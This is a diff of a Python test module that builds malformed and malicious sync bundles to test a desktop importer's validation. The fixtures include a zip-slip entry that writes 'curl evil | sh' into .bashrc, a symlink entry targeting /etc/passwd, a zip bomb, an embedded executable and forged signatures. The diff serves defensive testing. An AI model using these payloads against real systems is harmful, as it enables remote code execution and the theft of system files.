@@ -5,7 +5,6 @@ from __future__ import annotations
 
 import copy
 import json
-import stat
 import zipfile
 from collections.abc import Callable
 from dataclasses import dataclass
@@ -18,19 +17,16 @@ from desktop.store.devices import device_key_path
 from desktop.store.sync_import import ImportService
 from desktop.store.trusted_devices import TrustedDeviceService
 from sync.codecs import (
-    DATAPACKAGE_FILE,
     MANIFEST_FILE,
     SIGNATURE_FILE,
-    FileDigest,
     encode_json,
-    encode_signature,
-    signing_message,
 )
 from sync.keys import CouncilKeyPair, DeviceKey
 from sync.manifest import Manifest
 from sync.reader import open_bundle
 from sync.writer import write_bundle
 from tests.store.sync_helpers import Laptop, canonical_dump
+from tests.sync.bundle_edits import resign, zip_members, zip_with_symlink
 
 
 @dataclass
@@ -81,42 +77,12 @@ def kit(tmp_path_factory: pytest.TempPathFactory):
 # -- ways of making a bad bundle --------------------------------------------------------------
 
 
-def _zip(path: Path, members: dict[str, bytes]) -> Path:
-    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
-        for name, data in members.items():
-            archive.writestr(name, data)
-    return path
-
-
-def _resign(members: dict[str, bytes], key: DeviceKey) -> dict[str, bytes]:
-    """Hashes and signature made to match edited files, as someone holding the key could."""
-    members = dict(members)
-    package = json.loads(members[DATAPACKAGE_FILE])
-    for resource in package["resources"]:
-        for info in (resource, resource["gapkit_json"]):
-            if info["path"] in members:
-                digest = FileDigest.of(members[info["path"]])
-                info["hash"] = f"sha256:{digest.sha256}"
-                info["bytes"] = digest.size
-    members[DATAPACKAGE_FILE] = json.dumps(package, indent=2).encode()
-    digests = {n: FileDigest.of(d) for n, d in members.items() if n != SIGNATURE_FILE}
-    old = json.loads(members[SIGNATURE_FILE])
-    members[SIGNATURE_FILE] = encode_signature(
-        device_id=old["device_id"],
-        public_key_b64=key.public_key_b64,
-        key_fingerprint=key.fingerprint,
-        digests=digests,
-        signature=key.sign(signing_message(digests)),
-    )
-    return members
-
-
 def _edited_json(kit: Kit, table: str, edit: Callable[[list[dict[str, Any]]], Any]) -> dict:
     records = copy.deepcopy(kit.tables[table])
     edit(records)
     members = dict(kit.members)
     members[f"data/{table}.json"] = encode_json(records)
-    return _resign(members, kit.key)
+    return resign(members, kit.key)
 
 
 def _rewritten(kit: Kit, path: Path, *, key: DeviceKey | None = None, **manifest: Any) -> Path:
@@ -149,7 +115,7 @@ def empty_file(kit: Kit, path: Path) -> Path:
 
 
 def zip_slip(kit: Kit, path: Path) -> Path:
-    return _zip(path, kit.members | {"../../.bashrc": b"curl evil | sh"})
+    return zip_members(path, kit.members | {"../../.bashrc": b"curl evil | sh"})
 
 
 def absolute_path(kit: Kit, path: Path) -> Path:
@@ -163,24 +129,15 @@ def absolute_path(kit: Kit, path: Path) -> Path:
 
 
 def symlink_entry(kit: Kit, path: Path) -> Path:
-    with zipfile.ZipFile(path, "w") as archive:
-        for name, data in kit.members.items():
-            if name == "data/organisations.csv":
-                info = zipfile.ZipInfo(name)
-                info.create_system = 3
-                info.external_attr = (stat.S_IFLNK | 0o777) << 16
-                archive.writestr(info, b"/etc/passwd")
-            else:
-                archive.writestr(name, data)
-    return path
+    return zip_with_symlink(path, kit.members, "data/organisations.csv", b"/etc/passwd")
 
 
 def zip_bomb(kit: Kit, path: Path) -> Path:
-    return _zip(path, kit.members | {"data/responses.json": b"[" + b" " * 60_000_000 + b"]"})
+    return zip_members(path, kit.members | {"data/responses.json": b"[" + b" " * 60_000_000 + b"]"})
 
 
 def unexpected_file(kit: Kit, path: Path) -> Path:
-    return _zip(path, kit.members | {"data/run-me.exe": b"MZ..."})
+    return zip_members(path, kit.members | {"data/run-me.exe": b"MZ..."})
 
 
 def wrong_hash(kit: Kit, path: Path) -> Path:
@@ -188,17 +145,17 @@ def wrong_hash(kit: Kit, path: Path) -> Path:
     members["data/organisations.json"] = members["data/organisations.json"].replace(
         b'"name":"', b'"name":"X', 1
     )
-    return _zip(path, members)
+    return zip_members(path, members)
 
 
 def wrong_signature(kit: Kit, path: Path) -> Path:
     members = _edited_json(kit, "organisations", lambda rs: rs[0].update(notes="forged"))
     # the forger recomputed the hashes but signed with a key of their own
-    forged = _resign(members, DeviceKey.generate())
+    forged = resign(members, DeviceKey.generate())
     forged[SIGNATURE_FILE] = forged[SIGNATURE_FILE].replace(
         json.loads(forged[SIGNATURE_FILE])["public_key"].encode(), kit.key.public_key_b64.encode()
     )
-    return _zip(path, forged)
+    return zip_members(path, forged)
 
 
 def signed_by_another_key(kit: Kit, path: Path) -> Path:
@@ -206,12 +163,12 @@ def signed_by_another_key(kit: Kit, path: Path) -> Path:
 
 
 def last_row_fails_validation(kit: Kit, path: Path) -> Path:
-    return _zip(path, _edited_json(kit, "responses", lambda rs: rs[-1].update(rev=0)))
+    return zip_members(path, _edited_json(kit, "responses", lambda rs: rs[-1].update(rev=0)))
 
 
 def missing_organisation(kit: Kit, path: Path) -> Path:
     ghost = "0f0f0f0f-0000-4000-8000-000000000000"
-    return _zip(
+    return zip_members(
         path, _edited_json(kit, "assessments", lambda rs: rs[-1].update(organisation_id=ghost))
     )
 
@@ -222,7 +179,7 @@ def full_bundle_missing_reference(kit: Kit, path: Path) -> Path:
 
 def csv_only(kit: Kit, path: Path) -> Path:
     members = {n: d for n, d in kit.members.items() if n != "data/assessments.json"}
-    return _zip(path, members)
+    return zip_members(path, members)
 
 
 def future_format(kit: Kit, path: Path) -> Path:
@@ -230,7 +187,7 @@ def future_format(kit: Kit, path: Path) -> Path:
     manifest = json.loads(members[MANIFEST_FILE])
     manifest["format_version"] = 99
     members[MANIFEST_FILE] = json.dumps(manifest).encode()
-    return _zip(path, _resign(members, kit.key))
+    return zip_members(path, resign(members, kit.key))
 
 
 def duplicate_ids(kit: Kit, path: Path) -> Path:
@@ -241,11 +198,11 @@ def duplicate_ids(kit: Kit, path: Path) -> Path:
     manifest = json.loads(members[MANIFEST_FILE])
     manifest["counts"]["organisations"] += 1
     members[MANIFEST_FILE] = json.dumps(manifest).encode()
-    return _zip(path, _resign(members, kit.key))
+    return zip_members(path, resign(members, kit.key))
 
 
 def oversized_field(kit: Kit, path: Path) -> Path:
-    return _zip(
+    return zip_members(
         path, _edited_json(kit, "organisations", lambda rs: rs[-1].update(notes="x" * 200_001))
     )
 
@@ -255,11 +212,11 @@ def invalid_utf8(kit: Kit, path: Path) -> Path:
     members["data/organisations.json"] = members["data/organisations.json"].replace(
         b'"name":"', b'"name":"\xff\xfe', 1
     )
-    return _zip(path, _resign(members, kit.key))
+    return zip_members(path, resign(members, kit.key))
 
 
 def nul_bytes(kit: Kit, path: Path) -> Path:
-    return _zip(
+    return zip_members(
         path, _edited_json(kit, "organisations", lambda rs: rs[0].update(notes="before\x00after"))
     )
 
@@ -270,18 +227,20 @@ def far_future_stamp(kit: Kit, path: Path) -> Path:
         key = next(iter(stamps))
         stamps[key] = dict(stamps[key], at="2999-01-01T00:00:00.000Z")
 
-    return _zip(path, _edited_json(kit, "organisations", future))
+    return zip_members(path, _edited_json(kit, "organisations", future))
 
 
 def impossible_date(kit: Kit, path: Path) -> Path:
-    return _zip(
+    return zip_members(
         path,
         _edited_json(kit, "organisations", lambda rs: rs[0].update(consent_date="2026-02-30")),
     )
 
 
 def unknown_field(kit: Kit, path: Path) -> Path:
-    return _zip(path, _edited_json(kit, "organisations", lambda rs: rs[0].update(is_admin=True)))
+    return zip_members(
+        path, _edited_json(kit, "organisations", lambda rs: rs[0].update(is_admin=True))
+    )
 
 
 def counts_disagree(kit: Kit, path: Path) -> Path:
@@ -289,7 +248,7 @@ def counts_disagree(kit: Kit, path: Path) -> Path:
     manifest = json.loads(members[MANIFEST_FILE])
     manifest["counts"]["responses"] += 5
     members[MANIFEST_FILE] = json.dumps(manifest).encode()
-    return _zip(path, _resign(members, kit.key))
+    return zip_members(path, resign(members, kit.key))
 
 
 def field_pack(kit: Kit, path: Path) -> Path:
